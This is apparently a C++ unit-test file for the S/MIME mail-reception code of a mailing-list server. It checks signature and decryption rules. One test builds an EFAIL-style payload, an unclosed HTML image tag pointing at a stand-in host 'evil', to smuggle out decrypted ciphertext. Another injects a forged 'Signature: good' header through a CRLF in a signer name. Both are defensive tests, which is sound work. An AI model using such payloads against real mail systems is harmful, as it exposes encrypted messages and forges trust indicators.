#include "core/seal/SmimeSealer.h"
#include "core/seal/SmimeSigner.h"
#include "listd/receive/Reception.h"
#include "tests/unit/listd/ListdFixture.h"

using namespace postern;
using namespace postern::test;

namespace {

constexpr auto Canary = "The figures are larger.";

struct Scene {
  TempFolder folder;
  config::SiteConfig config = siteConfig(folder.path());
  SystemClock clock;
  SiteContext context{config, clock};
  List board = makeList(context, "board@lists.example", true);
  SigningIdentity ann = identityOf("ann@example.org");
  SigningIdentity bob = identityOf("bob@example.org");

  Scene() {
    confirm(ann, "ann@example.org");
    confirm(bob, "bob@example.org");
  }

  SigningIdentity identityOf(const std::string& address) const {
    return SigningIdentity::create(address, clock.now(), std::chrono::days(100));
  }
  void confirm(const SigningIdentity& identity, const std::string& address) {
    auto key = importKey(identity.certificate().der(), address, clock.now(), nullptr);
    BOOST_REQUIRE(key.has_value());
    BOOST_REQUIRE((key->facts.state == KeyState::Confirmed));
    context.site.write([&](SiteTables& tables) { tables.keys.add(*key); });
  }

  std::string signedBy(const SigningIdentity& who, const std::string& entity) const {
    return seal::SmimeSigner(who).sign(entity, clock.now());
  }
  std::string encrypted(const std::string& entity) const {
    const auto body = seal::SharedBody::encrypt("MIME-Version: 1.0\r\n" + entity);
    auto key = RecipientKey::of(signingIdentity(context, board).certificate());
    return seal::SmimeSealer().head(body, key) + body.tail();
  }
  std::optional<Reception> receive(const std::string& entity, const std::string& from = "ann@example.org") {
    return receivePost(context, post(entity, from), board);
  }
  static mail::Message post(const std::string& entity, const std::string& from = "ann@example.org") {
    return mail::Message::parse("From: Ann <" + from +
                                ">\r\nTo: board@lists.example\r\nSubject: ...\r\n"
                                "Date: Sun, 01 Mar 2026 12:00:00 +0000\r\nMessage-ID: <1@example.org>\r\n" +
                                entity)
        .value();
  }
  std::string standing(const std::string& entity, const std::string& from = "ann@example.org") {
    const auto reception = receive(entity, from);
    return reception ? standingWord(reception->check.standing) : "refused";
  }
};

std::string text(const std::string& header = {}) {
  return "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" + header + "\r\n" + Canary + "\r\n";
}

}  // namespace

BOOST_AUTO_TEST_SUITE(listd_receive_Reception)

BOOST_AUTO_TEST_CASE(mail_encrypted_to_the_list_and_signed_by_its_author_is_opened) {
  Scene scene;
  const auto inner = text(
      "From: Ann <ann@example.org>\r\nSubject: Secure: b\xc3\xbc"
      "dget\r\n");
  const auto reception = scene.receive(scene.encrypted(scene.signedBy(scene.ann, inner)));
  BOOST_REQUIRE(reception);
  BOOST_TEST(reception->message.bytes().find(Canary) != std::string::npos);
  BOOST_TEST(reception->message.subject() ==
             "Secure: b\xc3\xbc"
             "dget");
  BOOST_TEST(reception->message.header().count("Content-Type") == 1u);
  BOOST_TEST(reception->message.header().value("Content-Type")->find("multipart/signed") != std::string::npos);
  const auto& check = reception->check;
  BOOST_TEST((check.encryption == CryptoForm::Smime));
  BOOST_TEST(standingWord(check.standing) == "good");
  BOOST_TEST(check.signer == "ann@example.org");
  BOOST_TEST(check.fingerprint == scene.ann.certificate().fingerprint());
  BOOST_TEST((SenderCheck::fromJson(check.json()) == check));
}

BOOST_AUTO_TEST_CASE(encrypted_mail_counts_only_with_its_authors_signature) {
  Scene scene;
  const auto stranger = scene.identityOf("ann@example.org");  // names ann, but the site never saw it
  BOOST_TEST(scene.standing(scene.encrypted(text())) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(stranger, text()))) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.bob, text()))) == "refused");
  auto changed = scene.signedBy(scene.ann, text());
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(scene.encrypted(changed)) == "refused");
  BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.ann, text("From: bob@example.org\r\n")))) ==
             "refused");
}

BOOST_AUTO_TEST_CASE(ciphertext_taken_from_elsewhere_is_never_opened) {
  Scene scene;
  const auto captured = scene.encrypted(scene.signedBy(scene.ann, text()));
  // As bob's own mail, and as a part of somebody's: the author's signature does not fit, or nothing is looked at.
  BOOST_TEST(scene.standing(captured, "bob@example.org") == "refused");
  for (const auto* type : {"multipart/mixed; boundary=b", "multipart/alternative; boundary=b"}) {
    const auto reception = scene.receive("Content-Type: " + std::string(type) +
                                         "\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?"
                                         "\r\n--b\r\n" +
                                         captured + "\r\n--b--\r\n");
    BOOST_REQUIRE(reception);
    BOOST_TEST(reception->message.bytes().find(Canary) == std::string::npos);
    BOOST_TEST(reception->check.isPlain());
  }
  const auto forwarded = scene.receive("Content-Type: message/rfc822\r\n\r\n" + captured);
  BOOST_REQUIRE(forwarded);
  BOOST_TEST(forwarded->message.bytes().find(Canary) == std::string::npos);
}

BOOST_AUTO_TEST_CASE(a_signature_on_open_mail_is_judged_and_the_mail_stays_as_it_is) {
  Scene scene;
  const auto stranger = scene.identityOf("ann@example.org");
  auto changed = scene.signedBy(scene.ann, text());
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(scene.signedBy(scene.ann, text())) == "good");
  BOOST_TEST(scene.standing(scene.signedBy(stranger, text())) == "unknown-signer");
  BOOST_TEST(scene.standing(scene.signedBy(scene.bob, text())) == "other-signer");
  BOOST_TEST(scene.standing(changed) == "bad");
  BOOST_TEST(scene.standing(text()) == "none");
  const auto entity = scene.signedBy(scene.ann, text());
  BOOST_TEST(scene.receive(entity)->message.bytes() == Scene::post(entity).bytes());
}

BOOST_AUTO_TEST_CASE(a_revoked_or_proposed_certificate_proves_nothing) {
  Scene scene;
  const auto& fingerprint = scene.ann.certificate().fingerprint();
  for (const auto state : {KeyState::Revoked, KeyState::Proposed}) {
    scene.context.site.write([&](SiteTables& tables) { tables.keys.setState(fingerprint, state); });
    BOOST_TEST(scene.standing(scene.signedBy(scene.ann, text())) == "unknown-signer");
    BOOST_TEST(scene.standing(scene.encrypted(scene.signedBy(scene.ann, text()))) == "refused");
  }
}

BOOST_AUTO_TEST_CASE(readers_are_told_in_plain_ascii_whatever_the_key_says) {
  SenderCheck check;
  check.signature = CryptoForm::Smime;
  check.standing = SignatureStanding::OtherSigner;
  check.signer = "evil\r\nSignature: good";
  const auto told = senderCheckText(check, "ann@example.org", "board@lists.example");
  BOOST_TEST(told.find("\r\nSignature: by somebody else: certificate of evil??Signature: good.") != std::string::npos);
  BOOST_TEST(told.find("\r\nSignature: good") == std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()
